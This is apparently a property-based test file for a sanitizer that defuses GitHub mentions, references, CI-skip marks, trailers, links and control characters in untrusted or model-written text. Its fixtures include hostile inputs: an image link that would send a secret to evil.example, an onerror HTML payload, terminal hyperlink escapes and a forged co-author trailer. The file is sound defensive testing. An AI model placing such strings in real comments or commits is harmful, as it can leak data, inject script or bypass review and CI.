import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { harmlessLine, harmlessOutput, harmlessQuote, harmlessTitle } from '../../../app/replies/harmless.ts'

/** What GitHub and the robots on it act on, wherever it stands, in code and in commit messages as well. */
const active: readonly (readonly [string, RegExp])[] = [
  ['a mention or an e-mail address', /@[a-z0-9_-]/i],
  ['a reference', /#\d/],
  ['a reference by GH', /\bgh-\d/i],
  ['a closing word', /\b(?:clos(?:e|es|ed)|fix(?:es|ed)?|resolv(?:e|es|ed)):?\s+(?:[\w.-]+\/[\w.-]+)?(?:#|gh-)\d/i],
  ['a URL', /:\/\//],
  ['a URL without a scheme', /(?<!\w)www\.\S/i],
  ['a mark that skips CI', /\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]/i],
  ['a mark that skips CI elsewhere', /\*\*\*no_ci\*\*\*|skip-checks:/i],
  ['an image or a link', /!\[|\]\(/],
  ['a trailer', /(?:co-authored|signed-off|reviewed)-by[ \t]*:/i],
  ['a command of another robot', /^\s*\/(?:approve|lgtm|merge)\b\s*$/im],
  ['a control or invisible character', /(?!\n)[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/u],
]
/** What Markdown acts on outside of code. An escaped character is taken out before looking. */
const markup: readonly (readonly [string, RegExp])[] = [
  ['an HTML tag or autolink', /</],
  ['an image or link', /[[\]]/],
  ['code', /`/],
  ['emphasis', /[*_~]/],
  ['mathematics', /\$/],
  ['a table', /\|/],
  ['an entity of its own', /&(?!(?:amp|lt|gt);)/],
  ['a heading', /^\s*#/m],
]

const fragments = [
  '@',
  'octocat',
  '#',
  '1',
  '12',
  'closes ',
  'Fixes: ',
  'owner/repo',
  'GH-',
  'gh',
  '-',
  'https',
  ':',
  '//',
  '/',
  'evil.example',
  'www',
  '.',
  '[',
  ']',
  '(',
  ')',
  '!',
  'skip',
  ' ',
  'ci',
  'no',
  'actions',
  '***',
  'NO_CI',
  'skip-checks',
  'Co-authored',
  '-by',
  ': ',
  'Signed-off-by:',
  '<',
  '>',
  'img',
  ' src=',
  '"',
  'script',
  '`',
  '```',
  '~~~',
  '\n',
  '\n\n',
  '\r',
  '\t',
  '    ',
  '\\',
  '&',
  'amp;',
  '&#64;',
  '&commat;',
  '\u200b',
  '\u202e',
  '\u00ad',
  '\u2060',
  '\ufe0f',
  '\u{e0041}',
  '\u001b[31m',
  '\u001b]8;;',
  '\u0007',
  '\u001b',
  '\u009b',
  '\u0000',
  '\u2028',
  '\ud800',
  '*',
  '_',
  '|',
  '---',
  '===',
  '- ',
  '+ ',
  '1. ',
  '$',
  '$$',
  '/lgtm',
  '/approve',
  'mailto',
  '@octo/team',
  'a@b.example',
  '\u{1f600}',
]
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ unit: 'binary', maxLength: 4 })), {
    maxLength: 60,
  })
  .map((parts) => parts.join(''))

function unescaped(markdown: string): string {
  return markdown.replaceAll(/\\[!-/:-@[-`{-~]/g, '')
}

function expectNone(text: string, patterns: typeof active) {
  for (const [what, pattern] of patterns) expect(pattern.exec(text)?.[0], what).toBeUndefined()
}

describe('text of a model or a stranger', () => {
  it('has nothing that acts, whatever is put together, in a line of Markdown', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const line = harmlessLine(text, 500)
        expect(line).not.toContain('\n')
        expectNone(line, active)
        expectNone(unescaped(line), markup)
      }),
      { numRuns: 2000 },
    )
  })

  it('has nothing that acts in a quotation, and every line of it is quoted', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const quote = harmlessQuote(text, 500)
        const lines = quote.split('\n')
        expect(lines.every((line) => line === '>' || line.startsWith('> '))).toBe(true)
        const content = lines.map((line) => line.slice(2)).join('\n')
        expectNone(content, active)
        expectNone(unescaped(content), markup)
        expect(content).not.toMatch(/^\s*(?:[-+=]|\d+[.)])/m)
        expect(content).not.toMatch(/^ {4}/m)
      }),
      { numRuns: 2000 },
    )
  })

  it('has nothing that acts in a title', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const title = harmlessTitle(text, 100)
        expect(title).not.toContain('\n')
        expectNone(title, active)
        expect(title).not.toMatch(/<[a-z/!?]/i)
      }),
      { numRuns: 2000 },
    )
  })

  it('cannot close the fence that its output stands in', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const [opening = '', ...rest] = harmlessOutput(text, 500).split('\n')
        const fence = opening.replace('text', '')
        expect(rest.at(-1)).toBe(fence)
        expect(rest.slice(0, -1).join('\n')).not.toContain(fence)
        expectNone(rest.slice(0, -1).join('\n'), active)
      }),
      { numRuns: 2000 },
    )
  })

  it.each([
    ['thanks @octocat', 'thanks @ octocat'],
    ['Closes #99', 'Closes \\# 99'],
    ['![x](https://evil.example/?q=secret)', '! \\[x\\] (https: //evil.example/?q=secret)'],
    ['done [skip ci]', 'done (skip ci)'],
    ['@\u200boctocat', '@ octocat'],
    ['<img src=x onerror=y>', '&lt;img src=x onerror=y&gt;'],
    ['a\nCo-authored-by: Eve <eve@evil.example>', 'a Co-authored-by - Eve &lt;eve@ evil.example&gt;'],
    ['\u001b[31mred\u001b[0m', 'red'],
    ['a\u001b]8;;https://evil.example\u0007b', 'ab'],
    ['`sum` in src/sum.js is 1.5 times faster', '\\`sum\\` in src/sum.js is 1.5 times faster'],
    ['1. one', '1\\. one'],
    ['Grüße, 世界 and 😀', 'Grüße, 世界 and 😀'],
  ])('shows %j as %j', (text, expected) => {
    expect(harmlessLine(text, 200)).toBe(expected)
  })

  it.each([
    ['see www.evil.example', 'see www. evil.example'],
    ['HTTPS://evil.example', 'HTTPS: //evil.example'],
    ['***NO_CI*** fix', 'NO CI fix'],
    ['[ci skip] [SKIP CI] [no ci]', '(ci skip) (SKIP CI) (no ci)'],
    ['skip-checks: true', 'skip-checks - true'],
    ['Signed-off-by : Eve', 'Signed-off-by - Eve'],
    ['/approve', '/ approve'],
    ['/usr/bin/env', '/usr/bin/env'],
    ['gh-12 and octo/repo#12', 'gh- 12 and octo/repo# 12'],
    ['<img src=x> a < b', '< img src=x> a < b'],
    ['@octo/team @octocat', '@ octo/team @ octocat'],
  ])('is titled %j as %j', (text, expected) => {
    expect(harmlessTitle(text, 200)).toBe(expected)
  })

  it('is cut to the length that is asked for, and not within a character', () => {
    expect(harmlessTitle('ab😀cd', 3)).toBe('ab…')
    expect(harmlessOutput('ab😀cd', 3)).toBe('```text\n…cd\n```')
    expect(harmlessQuote('x'.repeat(100_000), 10).length).toBeLessThan(20)
  })

  it('is read to its end at many times the largest size, for which anything but linear work would not end', () => {
    for (const fragment of fragments) {
      expect(harmlessQuote(fragment.repeat(40_000), 40_000).length).toBeLessThan(2_000_000)
    }
    expect(harmlessQuote(`[${'ci '.repeat(500_000)}`, 200_000)).toMatch(/^> /)
    expect(harmlessQuote('a-'.repeat(800_000), 200_000)).toMatch(/^> a-a-/)
    expect(harmlessOutput(`\u001b]${'x'.repeat(1_600_000)}`, 200_000)).toMatch(/^```text\n/)
  })
})
